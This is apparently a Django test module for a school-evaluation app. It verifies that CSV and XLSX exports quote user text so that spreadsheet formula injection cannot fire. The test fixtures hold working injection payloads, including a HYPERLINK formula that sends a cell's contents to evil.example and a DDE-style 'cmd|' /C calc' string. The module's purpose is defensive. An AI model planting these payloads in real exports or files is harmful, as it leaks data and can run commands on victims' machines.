"""Formula injection in CSV and XLSX (issue 19, finding 4), written as the attack.

A teacher set her profile name to `=HYPERLINK("http://…/?leak="&B3,…)`; in the principal's
`export.xlsx?teachers=1` it was a live formula, and survey statements starting with `=`, `+`,
`-` or `@` came out unchanged in CSV. Every export that carries user text is tested here, and a
grep keeps every CSV/XLSX writer on `samsyn.lib.spreadsheet`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.core.management import call_command
from django.test import SimpleTestCase, override_settings
from django.urls import reverse

from samsyn.dashboards.tests.test_dashboards import SchoolWorld
from samsyn.indicators import services as indicator_services
from samsyn.indicators.models import StatValue
from samsyn.indicators.tests.test_surveys import answer_all
from samsyn.lib.spreadsheet import neutralise_workbook, safe_cell
from samsyn.privacy import services as privacy_services
from samsyn.privacy.tests.helpers import make_observation, make_plain_round, make_teachers
from samsyn.test import PASSWORD, BaseTestCase

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"Klicka")'
ROOT = Path(__file__).resolve().parents[2]


def login(case, user) -> None:
    """A real session through the login form."""
    case.client.logout()
    data = {"username": user.email, "password": PASSWORD}
    assert case.client.post(reverse("accounts:login"), data).status_code == 302


class SafeCellTests(SimpleTestCase):
    def test_triggers_are_quoted_and_numbers_kept(self):
        for text in (FORMULA, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"):
            self.assertEqual(safe_cell(text), "'" + text)
        for value in (3, -3, 2.5, -0.25, None, True, "-0.25", "+4", "-1e3", "1,5", "Anna", ""):
            self.assertEqual(safe_cell(value), value)

    def test_a_workbook_keeps_no_formula(self):
        from openpyxl import Workbook

        book = Workbook()
        book.active.append([FORMULA, -1, "-0.5", "ok"])
        neutralise_workbook(book)
        cells = next(iter(book.active.iter_rows()))
        self.assertEqual([c.data_type for c in cells], ["s", "n", "s", "s"])
        self.assertEqual(cells[0].value, "'" + FORMULA)

    def test_every_writer_goes_through_the_helper(self):
        """No CSV/XLSX writer outside samsyn/lib/spreadsheet.py: a new export cannot forget."""
        offenders = []
        for path in (ROOT / "samsyn").rglob("*.py"):
            if "tests" in path.parts or path.name == "spreadsheet.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(f"{path}: csv writer")
            if re.search(r"\bWorkbook\(", text) and "neutralise_workbook(" not in text:
                offenders.append(f"{path}: openpyxl workbook")
        self.assertEqual(offenders, [])


# The per-teacher table is offered only when every profile is reliable enough; the attack
# needs the table, so the gate is lowered (samsyn.reliability tests the gate itself).
@override_settings(SAMSYN_MIN_PROFILE_RELIABILITY=0)
class DashboardExportTests(SchoolWorld):
    def _attack(self, fmt: str) -> bytes:
        # The teacher changes her own profile name, in her own session.
        login(self, self.alice)
        self.client.post(reverse("accounts:profile"), {"full_name": FORMULA, "language": "sv"})
        # The principal exports the per-teacher table.
        login(self, self.pia)
        url = reverse("dashboards:school_export", args=[self.school.pk, fmt]) + "?teachers=1"
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_attack_teacher_name_in_the_principals_xlsx(self):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(self._attack("xlsx")))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        names = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
        self.assertTrue(names)
        for cell in names:
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, "'" + FORMULA)
        self.assertFalse([c for c in cells if c.data_type == "f"])
        # Numbers stay numbers.
        self.assertTrue([c for c in cells if c.data_type == "n"])

    def test_attack_teacher_name_in_the_principals_csv(self):
        rows = list(csv.reader(io.StringIO(self._attack("csv").decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        self.assertIn("'" + FORMULA, cells)
        self.assertFalse([c for c in cells if c.startswith(("=", "+", "@"))])


class SurveyExportTests(BaseTestCase):
    def test_attack_statement_in_the_survey_csv(self):
        survey = indicator_services.survey_create(
            organisation=self.school, actor=self.pia, title="Trygghet", audience="students"
        )
        for text in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
            indicator_services.survey_question_add(survey=survey, text=text)
        count = survey.questions.count()
        answer_all(survey, [[3] * count] * 6)
        login(self, self.pia)
        response = self.client.get(
            reverse("indicators:survey_export", args=[self.school.pk, survey.pk])
        )
        self.assertEqual(response.status_code, 200)
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        statements = {r["statement"] for r in rows if r["kind"] == "statement"}
        self.assertIn("'" + FORMULA, statements)
        self.assertIn("'@SUM(1)", statements)
        self.assertFalse([s for s in statements if s.startswith(("=", "+", "-", "@"))])
        numbers = [r["n"] for r in rows if r["kind"] == "statement" and r["n"]]
        self.assertTrue(numbers and all(n.isdigit() for n in numbers))


@override_settings(SAMSYN_MIN_GROUP=5)
class ResearchExportTests(BaseTestCase):
    def test_attack_evidence_note_in_the_research_csv(self):
        round_ = make_plain_round(self)
        for teacher in [self.alice, *make_teachers(self.school, 5, "ma")]:
            make_observation(
                round_,
                teacher=teacher,
                observer=self.oscar,
                school=self.school,
                note=FORMULA,
                comment="@SUM(1)",
            )
        export = privacy_services.research_request_create(
            researcher=self.rita,
            owner=self.owner,
            project="P",
            purpose="x",
            rounds=[round_],
            schools=[self.school],
            fields=[],
            notes_requested=True,
        )
        privacy_services.research_review(
            export=export, actor=self.olle, approve=True, notes_approved=True
        )
        login(self, self.rita)
        response = self.client.get(reverse("privacy:research_download", args=[export.pk, "csv"]))
        self.assertEqual(response.status_code, 200)
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        self.assertTrue(rows)
        self.assertTrue(all(r["note"] == "'" + FORMULA for r in rows))
        self.assertTrue(all(r["teacher_comment"] == "'@SUM(1)" for r in rows))
        self.assertTrue(all(r["step"].isdigit() for r in rows))


class IndicatorExportTests(BaseTestCase):
    def test_attack_measure_name_in_the_indicator_export(self):
        StatValue.objects.create(
            source="skolverket",
            measure=FORMULA,
            municipality_code="1440",
            owner_type="all",
            year=2025,
            value=-3,
        )
        out = io.StringIO()
        call_command("indicators", "export", "--municipality", "1440", stdout=out)
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        self.assertEqual(rows[0]["measure"], "'" + FORMULA)
        self.assertEqual(rows[0]["value"], "-3")
